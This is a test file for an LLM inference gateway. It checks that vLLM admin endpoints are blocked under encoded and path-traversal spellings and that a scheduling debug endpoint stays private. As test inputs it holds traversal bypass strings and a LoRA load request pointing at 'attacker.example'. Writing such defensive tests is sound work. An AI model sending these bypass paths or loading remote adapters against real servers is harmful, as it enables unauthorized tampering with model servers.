/**
 * What the gateway exposes beside inference (issue #10): vLLM's admin endpoints are refused, in every spelling,
 * unless allowed by name; /debug/scheduling is off by default, hides request ids when on, and answers on the admin
 * port only.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { request } from 'node:http';
import OpenAI from 'openai';
import { VLLM_ADMIN_PATHS } from '../../src/policy/admin-paths.js';
import { podYaml, poolYaml, prefixRouteYaml, startFleet, startTestGateway, tempConfig, type Fleet, type TempConfig } from '../helpers/fleet.js';
import type { RunningGateway, StartGatewayOptions } from '../../src/cli/start-gateway.js';

const BASE = 'google/gemma-2b-it';

/** One request with its path sent exactly as written (fetch and URL would resolve `..` and `%2e%2e` first). */
function raw(gw: RunningGateway, method: string, path: string, body?: unknown): Promise<{ status: number; json: { error?: { code: string; message: string; type: string } } & Record<string, unknown> }> {
  const text = body === undefined ? undefined : JSON.stringify(body);
  return new Promise((resolve, reject) => {
    const req = request({ host: gw.address.address, port: gw.address.port, method, path, headers: text ? { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) } : {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        // vLLM answers some admin calls in plain text ("Success: LoRA adapter ... unloaded").
        let json: never;
        try {
          json = JSON.parse(text) as never;
        } catch {
          json = { text } as never;
        }
        resolve({ status: res.statusCode ?? 0, json });
      });
    });
    req.on('error', reject);
    req.end(text);
  });
}

/** A GET on the admin listener (`--admin-port`), where /debug/scheduling lives. */
async function admin(gw: RunningGateway, path: string): Promise<{ status: number; json: { error?: { code: string; message: string; type: string } } & Record<string, unknown> }> {
  const res = await fetch(`${gw.adminUrl}${path}`);
  return { status: res.status, json: (await res.json()) as never };
}

async function withGateway(options: Partial<StartGatewayOptions>, body: (t: { fleet: Fleet; gw: RunningGateway; cfg: TempConfig }) => Promise<void>): Promise<void> {
  const fleet = await startFleet(66, [{ name: 'gemma-0', labels: {}, model: BASE, loras: ['sql-lora', 'chat-lora'], ttftMs: 1, itlMs: 1 }]);
  // The route users copy from the examples: everything under / goes to the pool.
  const cfg = await tempConfig({ 'all.yaml': [podYaml('gemma-0', fleet.ipOf('gemma-0'), { app: 'gemma' }), poolYaml('gemma', { app: 'gemma' }, fleet.port), prefixRouteYaml('all', '/', 'gemma')].join('---\n') });
  const gw = await startTestGateway(cfg.dir, options);
  try {
    await body({ fleet, gw, cfg });
  } finally {
    await gw.close();
    await fleet.close();
    await cfg.remove();
  }
}

async function podModels(fleet: Fleet): Promise<string[]> {
  const sim = fleet.sims.get('gemma-0')!;
  const list = (await (await fetch(`${sim.url}/v1/models`)).json()) as { data: { id: string }[] };
  return list.data.map((m) => m.id).sort();
}

test('every vLLM admin path, and encoded or dotted spellings of them, get 403 admin_path_blocked and never reach the pod', () =>
  withGateway({}, async ({ fleet, gw }) => {
    const before = await podModels(fleet);
    assert.deepEqual(before, [BASE, 'chat-lora', 'sql-lora'].sort());
    const paths = [
      ...VLLM_ADMIN_PATHS,
      ...VLLM_ADMIN_PATHS.map((p) => (p.startsWith('/v1/') ? p.slice(3) : `/v1${p}`)),
      '/v1/../v1/unload_lora_adapter',
      '/v1/%2e%2e/v1/unload_lora_adapter',
      '/v1/%2E%2E%2Fsleep',
      '//v1//unload_lora_adapter',
      '/v1/unload_lora_adapter/',
      '/V1/UNLOAD_LORA_ADAPTER',
      '/v1/chat/..%2f..%2freset_prefix_cache',
      '/pause/step?no_barrier=true',
    ];
    for (const path of paths) {
      const r = await raw(gw, 'POST', path, { lora_name: 'sql-lora', lora_path: 'https://attacker.example/evil' });
      assert.equal(r.status, 403, path);
      assert.equal(r.json.error?.code, 'admin_path_blocked', path);
      assert.equal(r.json.error?.type, 'permission_error', path);
      assert.match(r.json.error?.message ?? '', /is a model server admin endpoint.*--allow-admin-paths/, path);
    }
    assert.deepEqual(await podModels(fleet), before, 'no adapter was loaded or unloaded through the gateway');
    // Inference still flows on the same route.
    const client = new OpenAI({ baseURL: `${gw.url}/v1`, apiKey: 'unused', maxRetries: 0 });
    const ok = await client.chat.completions.create({ model: 'sql-lora', messages: [{ role: 'user', content: 'hi' }], max_tokens: 2 });
    assert.equal(ok.model, 'sql-lora');
  }));

test('--allow-admin-paths forwards only the paths it names', () =>
  withGateway({ allowAdminPaths: ['/v1/unload_lora_adapter'] }, async ({ fleet, gw }) => {
    const unload = await raw(gw, 'POST', '/v1/unload_lora_adapter', { lora_name: 'chat-lora' });
    assert.equal(unload.status, 200, JSON.stringify(unload.json));
    assert.deepEqual(await podModels(fleet), [BASE, 'sql-lora'].sort());
    const load = await raw(gw, 'POST', '/v1/load_lora_adapter', { lora_name: 'evil', lora_path: 'https://attacker.example/evil' });
    assert.equal(load.status, 403);
    assert.deepEqual(await podModels(fleet), [BASE, 'sql-lora'].sort());
  }));

test('/debug/scheduling is off by default: 404 debug_disabled naming the flag', () =>
  withGateway({}, async ({ gw }) => {
    const r = await admin(gw, '/debug/scheduling');
    assert.equal(r.status, 404);
    assert.equal(r.json.error?.code, 'debug_disabled');
    assert.match(r.json.error?.message ?? '', /--debug-decisions N/);
  }));

test('when on, /debug/scheduling shows keyed hashes of request ids, and ?request_id= finds one; --debug-show-request-ids shows them', async () => {
  const send = async (gw: RunningGateway, id: string): Promise<void> => {
    const client = new OpenAI({ baseURL: `${gw.url}/v1`, apiKey: 'unused', maxRetries: 0 });
    await client.completions.create({ model: BASE, prompt: 'hello', max_tokens: 1 }, { headers: { 'x-request-id': id } });
  };
  await withGateway({ debugDecisions: 10 }, async ({ gw }) => {
    for (const id of ['alice@example.com-session-42', 'bob-7']) await send(gw, id);
    const all = await admin(gw, '/debug/scheduling');
    assert.equal(all.status, 200);
    const text = JSON.stringify(all.json);
    assert.ok(!text.includes('alice') && !text.includes('bob-7'), text.slice(0, 300));
    assert.equal(all.json.request_ids, 'hashed');
    const one = await admin(gw, `/debug/scheduling?request_id=${encodeURIComponent('alice@example.com-session-42')}`);
    const decisions = one.json.decisions as { requestId: string; model: string }[];
    assert.equal(decisions.length, 1);
    assert.match(decisions[0]!.requestId, /^h:[0-9a-f]{20}$/);
    assert.equal(decisions[0]!.model, BASE);
  });
  await withGateway({ debugDecisions: 10, debugShowRequestIds: true }, async ({ gw }) => {
    await send(gw, 'carol-1');
    const all = await admin(gw, '/debug/scheduling');
    assert.equal((all.json.decisions as { requestId: string }[])[0]?.requestId, 'carol-1');
  });
});

test('the traffic port does not answer /debug/scheduling: the decisions are on the admin port only', () =>
  withGateway({ debugDecisions: 10 }, async ({ gw }) => {
    const client = new OpenAI({ baseURL: `${gw.url}/v1`, apiKey: 'unused', maxRetries: 0 });
    await client.completions.create({ model: BASE, prompt: 'hello', max_tokens: 1 });
    const onAdmin = await admin(gw, '/debug/scheduling');
    assert.equal(onAdmin.status, 200);
    assert.equal((onAdmin.json.decisions as unknown[]).length, 1);
    const onTraffic = await raw(gw, 'GET', '/debug/scheduling');
    assert.equal(onTraffic.json.decisions, undefined, JSON.stringify(onTraffic.json).slice(0, 200));
    assert.notEqual(new URL(gw.adminUrl!).port, String(gw.address.port));
  }));
